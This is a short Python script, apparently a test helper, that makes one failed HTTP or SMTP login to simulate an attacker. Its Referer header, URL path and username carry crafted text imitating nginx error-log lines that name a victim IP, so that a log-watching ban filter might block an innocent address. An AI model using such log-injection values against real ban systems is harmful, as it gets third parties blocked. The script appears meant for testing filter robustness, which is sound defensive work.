"""What an attacker of a web or a mail server does, run on a host: fail.py ADDRESS PORT, one attempt.

Prints what the server answers: "401" (HTTP), "535" (SMTP), or why there was no answer. The requests carry texts that
would have a victim banned if a filter took them for a message of nginx.
"""

from __future__ import annotations

import base64
import smtplib
import sys
import urllib.error
import urllib.parse
import urllib.request

VICTIM = "203.0.113.9"
# By port: the path that is asked for.
PATHS = {8082: "/wp-login.php"}
REFERER = f'x" user "bob": password mismatch, client: {VICTIM}, server: s, request: "GET / HTTP/1.1", host: "x'
PATH = (
    f'/x" failed (2: No such file or directory), client: {VICTIM}, server: s, request: "GET /wp-login.php HTTP/1.1", y'
)
# The name of the user for port 8083, whose log has names.
NAME = f'x" from {VICTIM}'


def mail(address: str, port: int) -> int:
    with smtplib.SMTP(address, port, timeout=10) as server:
        server.ehlo()
        server.user, server.password = "deploy", "wrong"
        try:
            server.auth("PLAIN", server.auth_plain)
        except smtplib.SMTPAuthenticationError as error:
            return error.smtp_code
    return 235


def web(address: str, port: int, path: str) -> int:
    name = NAME if port == 8083 else "deploy"
    headers = {"Authorization": "Basic " + base64.b64encode(f"{name}:wrong".encode()).decode()}
    if port == 80:
        headers["Referer"] = REFERER
    request = urllib.request.Request(f"http://{address}:{port}{path}", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code


if __name__ == "__main__":
    host, number = sys.argv[1], int(sys.argv[2])
    try:
        if number == 8082:
            web(host, number, urllib.parse.quote(PATH))
        print(mail(host, number) if number == 25 else web(host, number, PATHS.get(number, "/")))
    except OSError as error:
        reason = error.reason if isinstance(error, urllib.error.URLError) else error
        print("refused" if isinstance(reason, ConnectionRefusedError) else reason)
